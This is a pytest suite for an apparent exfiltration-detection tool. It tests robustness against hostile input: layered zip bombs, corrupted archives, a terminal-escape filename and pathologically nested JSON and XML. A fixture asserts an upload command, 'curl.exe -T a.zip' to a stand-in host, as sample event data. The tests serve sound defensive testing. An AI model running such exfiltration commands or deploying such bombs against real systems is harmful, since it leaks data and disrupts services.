"""Hostile and damaged input: a clear message with its place, bounded cost, and the rest is still read."""

import gzip
import json
import os
import time
import tracemalloc
import zipfile
import zlib
from pathlib import Path

import pytest

from exfilwatch.events.inputs import open_inputs
from exfilwatch.events.limits import MIB, Limits
from exfilwatch.events.lines import LineDecoder
from exfilwatch.events.report import Report

from .samples import SYSMON_FLAT

TEXT = b"".join(b'{"n": %d}\n' % n for n in range(50_000))
BOMB = Limits(always_allowed=1 * MIB)


def read(*paths: Path, limits: Limits = Limits()) -> tuple[bytes, Report]:  # noqa: B008 immutable
    report = Report()
    data = b"".join(
        block.load()
        for one in open_inputs([str(path) for path in paths], report, limits, True)
        for block in one.blocks()
    )
    return data, report


def written(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def good(tmp_path: Path) -> Path:
    return written(tmp_path / "zz-good.json", b'{"good": 1}\n')


def test_a_missing_file_is_named_and_the_rest_is_read(tmp_path):
    data, report = read(tmp_path / "absent.json", good(tmp_path))
    assert [str(problem) for problem in report.problems] == [f"{tmp_path}/absent.json: no such file or directory"]
    assert report.had_errors
    assert data == b'{"good": 1}\n'


def test_what_one_may_not_read_is_named_and_the_rest_is_read(tmp_path):
    (tmp_path / "secret").mkdir()
    written(tmp_path / "secret" / "a.json", b"{}")
    written(tmp_path / "b.json", b"{}\n").chmod(0)
    good(tmp_path)
    (tmp_path / "secret").chmod(0)
    for folder in [tmp_path, *tmp_path.parents[:3]]:
        folder.chmod(0o755) if folder.stat().st_uid == os.geteuid() == 0 else None
    child = os.fork()
    if child == 0:  # root may read everything, so another user looks
        try:
            if os.geteuid() == 0:
                os.setuid(65534)
            data, report = read(tmp_path)
            shown = sorted(str(place) for problem in report.problems for place in problem.places)
            expected = [f"{tmp_path}/b.json", f"{tmp_path}/secret"]
            os._exit(0 if data == b'{"good": 1}\n' and shown == expected else 1)
        finally:
            os._exit(2)
    assert os.waitpid(child, 0)[1] == 0
    (tmp_path / "secret").chmod(0o700)


def test_the_zeros_that_a_crash_leaves_in_a_log_cost_only_their_line(tmp_path):
    path = written(tmp_path / "a.json", b'{"good": 1}\n' + b"\0" * 5000 + b'\n{"good": 2}\n')
    data, report = read(path)
    assert [line for line in data.split(b"\n") if line.strip(b"\0")] == [b'{"good": 1}', b'{"good": 2}']
    assert not report.unknown_shapes


@pytest.mark.parametrize("layers", ["gz", "zip", "gz in zip", "many members"])
def test_a_bomb_is_stopped_and_the_rest_is_read(tmp_path, layers):
    zeros = gzip.compress(b"0\n" * (50 * MIB), mtime=0)
    path = tmp_path / "bomb"
    if layers == "gz":
        written(path, zeros)
    else:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            if layers == "gz in zip":
                archive.writestr("a.gz", gzip.compress(zlib.decompress(zeros, 31), 9, mtime=0))
            for number in range({"zip": 1, "many members": 40, "gz in zip": 0}[layers]):
                archive.writestr(f"{number}.json", b"0\n" * (50 * MIB // (40 if layers == "many members" else 1)))
    size = path.stat().st_size
    data, report = read(path, good(tmp_path), limits=BOMB)
    assert "zip bomb" in str(report.problems[0])
    assert str(path) in str(report.problems[0])
    assert len(data) < max(BOMB.always_allowed, BOMB.max_ratio * size) + MIB
    assert data.endswith(b'{"good": 1}\n')


def test_ordinary_compression_is_no_bomb(tmp_path):
    line = b'{"EventID":3,"Image":"C:\\\\Windows\\\\x.exe","n":%d}\n'
    text = b"".join(line % n for n in range(100_000))
    data, report = read(written(tmp_path / "a.gz", gzip.compress(text, mtime=0)), limits=BOMB)
    assert data == text
    assert not report.problems


@pytest.mark.parametrize(
    ("damage", "message"),
    [
        (lambda data: data[: len(data) // 2], "gzip file is truncated"),
        (lambda data: data[:-4] + b"\0\0\0\0", "gzip data are damaged"),
        (lambda data: data[: len(data) // 2] + os.urandom(64) + data[len(data) // 2 + 64 :], "gzip data are damaged"),
        (lambda data: data + b"trailing", "gzip data are damaged"),
    ],
    ids=["truncated", "wrong size", "overwritten", "trailing"],
)
def test_of_a_damaged_gzip_file_what_came_before_is_read(tmp_path, damage, message):
    path = written(tmp_path / "a.json.gz", damage(gzip.compress(TEXT, mtime=0)))
    data, report = read(path, good(tmp_path))
    assert message in str(report.problems[0])
    assert str(report.problems[0]).startswith(str(path))
    assert TEXT.startswith(data[: len(TEXT) // 10])
    assert data.endswith(b'{"good": 1}\n')
    assert len(data) > len(TEXT) // 10


def test_a_damaged_member_costs_only_itself(tmp_path):
    path = tmp_path / "a.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("1.json", TEXT)
        archive.writestr("2.json", b'{"good": 1}\n')
    data = bytearray(path.read_bytes())
    data[1000:1010] = b"##########"
    read_data, report = read(written(path, bytes(data)))
    assert "damaged" in str(report.problems[0])
    assert f"{path}!1.json" in str(report.problems[0])
    assert read_data.endswith(b'{"good": 1}\n')


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"PK\x03\x04" + b"\0" * 500, "zip archive is damaged"),
        (b"ElfFile\0" + b"\0" * 100, "EVTX"),
        (b"BZh91AY&SY" + b"\0" * 100, "bzip2"),
        (b"\x28\xb5\x2f\xfd" + b"\0" * 100, "zstandard"),
        (b"\0" * 257 + b"ustar\0" + b"\0" * 500, "tar"),
        (gzip.compress(gzip.compress(b"{}", mtime=0), mtime=0), "gzip within gzip"),
    ],
)
def test_what_cannot_be_read_is_named_with_what_it_is(tmp_path, data, message):
    read_data, report = read(written(tmp_path / "a", data), good(tmp_path))
    assert message in str(report.problems[0])
    assert report.had_errors
    assert read_data == b'{"good": 1}\n'


def test_an_archive_in_an_archive_is_refused_by_name(tmp_path):
    inner = tmp_path / "inner.zip"
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("a.json", "{}")
    with zipfile.ZipFile(tmp_path / "outer.zip", "w") as archive:
        archive.write(inner, "inner.zip")
        archive.writestr("b.json", '{"good": 1}\n')
    data, report = read(tmp_path / "outer.zip")
    assert str(report.problems[0]) == f"{tmp_path}/outer.zip!inner.zip: is zip within zip: unpack it first"
    assert data == b'{"good": 1}\n'


def test_a_binary_file_is_unknown_not_an_error(tmp_path):
    _, report = read(written(tmp_path / "a.bin", b"\x7fELF" + bytes(range(256)) * 3 + b"\0" * 3000))
    assert report.unknown_shapes[0].keys == ("(a binary file)",)
    assert not report.had_errors


def test_a_hostile_file_name_cannot_write_to_the_terminal(tmp_path):
    with zipfile.ZipFile(tmp_path / "a.zip", "w") as archive:
        archive.writestr("\x1b[2J.json", b"{}")
    (one,) = open_inputs([str(tmp_path / "a.zip")], Report(), Limits(), False)
    assert one.name.isprintable()


def test_a_line_beyond_the_limit_is_skipped_in_bounded_memory(tmp_path):
    path = tmp_path / "a.json"
    with path.open("wb") as file:
        for _ in range(64):
            file.write(b"x" * MIB)
        file.write(b'\n{"good": 1}\n')
    limits = Limits(max_line=4 * MIB)
    tracemalloc.start()
    data, report = read(path, limits=limits)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert data == b'{"good": 1}\n'
    assert str(report.problems[0]) == f"{path}:1: a line longer than 4,194,304 bytes was skipped (67,108,865 bytes)"
    assert peak < 4 * limits.max_line


def test_a_document_beyond_the_limit_is_refused_in_bounded_memory(tmp_path):
    path = written(tmp_path / "a.json", b'{"results": [\n' + b'{"a": "b"},\n' * 1_000_000)
    tracemalloc.start()
    _, report = read(path, limits=Limits(max_document=2 * MIB))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert "more than 2,097,152 bytes" in str(report.problems[0])
    assert peak < 16 * MIB


def after(line: bytes) -> tuple[int, Report]:
    """Feed a hostile line and an ordinary one: how many events came, and the report."""
    report = Report()
    decoder = LineDecoder("x.json", report)
    events = decoder.feed(line, 1) + decoder.feed(SYSMON_FLAT, 2) + decoder.finish()
    assert events[-1].fields["CommandLine"] == "curl.exe -T a.zip https://x.example/"
    return len(events), report


@pytest.mark.parametrize(
    "line",
    [
        b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
        b"[" * 100_000,
        b'{"a": [' * 100_000,
        SYSMON_FLAT[:-1],
        SYSMON_FLAT[:200],
        b'{"a": 1} trailing',
        b'{"a": ' + b"9" * 5000 + b"}",
        b"{",
        b"{}}",
        b'{"a"}',
        b"<Event><System></Event>",
        b'<Event><!DOCTYPE x [<!ENTITY a "b">]><System><EventID>1</EventID></System></Event>',
    ],
    ids=lambda line: line[:20].decode(),
)
def test_a_line_that_cannot_be_read_is_reported_with_its_place(line):
    count, report = after(line)
    assert count == 1
    assert report.had_errors
    assert report.problems[0].places[0].line == 1


@pytest.mark.parametrize(
    ("dirt", "kept"),
    [
        (b"\xff\xfe", "\ufffd\ufffd"),
        (b"a\0b", "a\0b"),
        (b"\\ud800", "?"),
        (b"tab\there", "tab\there"),
    ],
    ids=["invalid UTF-8", "NUL", "lone surrogate", "control character"],
)
def test_an_unclean_text_does_not_hide_an_event(dirt, kept):
    count, report = after(SYSMON_FLAT.replace(b"a.zip", b"a.zip " + dirt))
    assert count == 2
    assert not report.had_errors
    assert "unclean JSON" in str(report.problems[0])


@pytest.mark.parametrize("number", [b"NaN", b"-Infinity", b"1e999", b"123456789012345678901234567890"])
def test_a_number_that_json_does_not_know_does_not_hide_an_event(number):
    assert after(SYSMON_FLAT.replace(b'"EventID":1', b'"EventID":1,"x":' + number))[0] == 2


def test_of_duplicate_keys_the_last_counts():
    report = Report()
    (event,) = LineDecoder("x", report).feed(SYSMON_FLAT[:-1] + b',"CommandLine":"second"}', 1)
    assert event.fields["CommandLine"] == "second"


@pytest.mark.parametrize(
    "line",
    [
        b'{"a":"' + b"x" * 50_000_000 + b'"}',
        b'{"a":"' + b"x" * 50_000_000,
        b"x" * 50_000_000,
        b"<Event>" * 7_000_000,
        b"<Event><System><a>" + b"<a>" * 10_000_000,
        b"type=EXECVE msg=audit(1.1:1): " + b"a0=" * 16_000_000,
        b'{"a":' * 10_000_000,
    ],
    ids=["JSON", "JSON cut off", "text", "XML", "XML elements", "audit", "nested"],
)
def test_a_line_of_50_mb_costs_seconds_at_most(line):
    start = time.process_time()
    after(line)
    assert time.process_time() - start < 20


def test_nul_bytes_of_a_crashed_host_between_lines_are_nothing():
    report = Report()
    decoder = LineDecoder("x", report)
    assert decoder.feed(b"\0" * 4096, 1) == []
    assert len(decoder.feed(b"\0" * 4096 + SYSMON_FLAT, 2)) == 1
    assert not report.problems


def test_events_without_host_or_time_and_from_the_far_future_are_events():
    decoder = LineDecoder("x", Report())
    bare = json.loads(SYSMON_FLAT) | {"Hostname": "", "@timestamp": "not a time"}
    late = json.loads(SYSMON_FLAT) | {"@timestamp": "9999-12-31T23:59:59Z"}
    (no_time,) = decoder.feed(json.dumps(bare).encode(), 1)
    (future,) = decoder.feed(json.dumps(late).encode(), 2)
    assert (no_time.host, no_time.time) == (None, None)
    assert future.time == 253402300799 * 1_000_000
